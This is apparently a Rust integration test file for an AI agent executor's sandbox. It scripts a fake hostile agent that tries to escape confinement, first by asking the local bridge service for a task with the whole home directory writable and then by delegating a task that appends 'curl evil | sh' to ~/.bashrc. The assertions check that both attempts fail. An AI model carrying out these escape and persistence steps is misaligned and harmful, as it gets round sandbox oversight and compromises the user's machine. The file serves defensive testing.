//! Issue 29, item 2: a request that comes from inside a run never gets more than that run has.
//!
//! - The bridge as a deputy: with a bridge running, the agent `curl`s `POST /tasks` with
//!   `repo_root = $HOME` to get a second task with the whole home writable. The run's TCP
//!   connections to the bridge's port are refused by Landlock (`droid_exec::process::net_confine`),
//!   so nothing reaches the bridge.
//! - The fallback-skill path: the agent runs `droid-executor ask droid … --background`, then
//!   `pend`. The delegated task goes to the run's own store (the user's store is outside what the
//!   run may write: before, `could not submit the task: open lock …: Permission denied` for
//!   every user whose HOME is not under /tmp), and its own run is confined no wider than the
//!   run that asked (it cannot write `~/.bashrc`).
//!
//! Both as root and as a non-root user whose HOME is outside the system temp directory.

use std::time::Duration;

use serde_json::json;
use tests::non_root::Who;

use super::binary::CLI_LIMIT;
use super::bridge_daemon::free_port;
use super::escape_git::Hostile;

/// What the outer agent wrote into `out/` of the repository.
fn out(h: &Hostile, name: &str) -> String {
    std::fs::read_to_string(h.repo().join("out").join(name)).unwrap_or_default()
}

async fn the_bridge_cannot_be_reached_from_a_run(who: Who) {
    let port = free_port();
    let body =
        r#"{"objective":"Append to bashrc","context":{"repo_root":"'"$HOME"'"},"autonomy":"high"}"#;
    let steps = json!([
        {"sh": format!(
            "mkdir -p out; curl -s -m 10 -o out/curl.body -w '%{{http_code}}' -X POST \
             -H 'content-type: application/json' -d '{body}' \
             http://127.0.0.1:{port}/tasks > out/curl.code 2> out/curl.err; \
             echo $? > out/curl.exit"
        )},
        {"completion": "Done."}
    ]);
    let h = Hostile::new("escape-bridge", who, &steps);
    h.write(
        ".config/droid-executor/config.toml",
        &format!("port = {port}\nenv_passthrough = [\"FAKE_DROID_SCENARIO\", \"DROID_CLI_CMD\"]\n"),
    );
    let before = h.outside();
    let mut bridge = h
        .command(&["serve", "--port", &port.to_string()])
        .spawn()
        .unwrap();
    let until = std::time::Instant::now() + Duration::from_secs(30);
    while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
        assert!(
            std::time::Instant::now() < until,
            "the bridge did not listen"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let res = h.run().await;
    // what the bridge got: no task
    #[allow(clippy::disallowed_methods)] // the test's own look at the bridge, from outside
    let tasks = std::process::Command::new("curl")
        .args(["-s", "-m", "10", &format!("http://127.0.0.1:{port}/tasks")])
        .output()
        .unwrap();
    let _ = bridge.start_kill();
    let _ = tokio::time::timeout(CLI_LIMIT, bridge.wait()).await;
    let exit = out(&h, "curl.exit");
    assert!(
        !exit.trim().is_empty() && exit.trim() != "0",
        "curl reached the bridge from inside the run: exit {exit:?}, code {:?}, body {:?}; {res:#?}",
        out(&h, "curl.code"),
        out(&h, "curl.body")
    );
    let listed = String::from_utf8_lossy(&tasks.stdout);
    assert!(
        !listed.contains("Append to bashrc"),
        "the bridge took the task: {listed}"
    );
    assert_eq!(h.outside(), before, "files outside the repository changed");
}

async fn delegation_from_inside_a_run_works_and_gets_no_more(who: Who) {
    let steps = json!([
        {"sh": "mkdir -p out; \
                FAKE_DROID_SCENARIO=\"$HOME/inner.json\" droid-executor ask droid 'What is 2+2?' \
                  --autonomy high --background > out/id 2> out/ask.err; \
                FAKE_DROID_SCENARIO=\"$HOME/inner.json\" droid-executor pend droid \"$(cat out/id)\" \
                  --wait 60 > out/reply 2> out/pend.err"},
        {"completion": "Asked."}
    ]);
    let h = Hostile::new("escape-delegate", who, &steps);
    h.write(
        "inner.json",
        &json!({"steps": [
            {"sh": "echo 'curl evil | sh' >> \"$HOME/.bashrc\"; echo planted > \"$HOME/planted\""},
            {"completion": "Four."}
        ]})
        .to_string(),
    );
    let before = h.outside();
    let res = h.run().await;
    let reply = out(&h, "reply");
    assert!(
        reply.contains("Four."),
        "no reply: {reply:?}\nask: {} {}\npend: {}\n{res:#?}",
        out(&h, "id"),
        out(&h, "ask.err"),
        out(&h, "pend.err")
    );
    assert!(
        out(&h, "id").trim().starts_with("droid-"),
        "{}",
        out(&h, "id")
    );
    assert!(
        !h.home().join(".bashrc").exists(),
        "the delegated run wrote ~/.bashrc"
    );
    assert!(
        !h.home().join("planted").exists(),
        "the delegated run wrote HOME"
    );
    assert_eq!(h.outside(), before, "files outside the repository changed");
    // the user's own store holds no task of the run's
    let tasks = h.home().join(".local/state/droid-executor/tasks");
    let listed: Vec<_> = std::fs::read_dir(&tasks)
        .map(|d| d.flatten().map(|e| e.file_name()).collect())
        .unwrap_or_default();
    assert!(listed.is_empty(), "{listed:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_bridge_cannot_be_reached_from_a_run_as_root() {
    the_bridge_cannot_be_reached_from_a_run(Who::Me).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_bridge_cannot_be_reached_from_a_run_as_non_root() {
    the_bridge_cannot_be_reached_from_a_run(Who::NonRoot).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn delegation_from_inside_a_run_works_and_gets_no_more_as_root() {
    delegation_from_inside_a_run_works_and_gets_no_more(Who::Me).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn delegation_from_inside_a_run_works_and_gets_no_more_as_non_root() {
    delegation_from_inside_a_run_works_and_gets_no_more(Who::NonRoot).await;
}
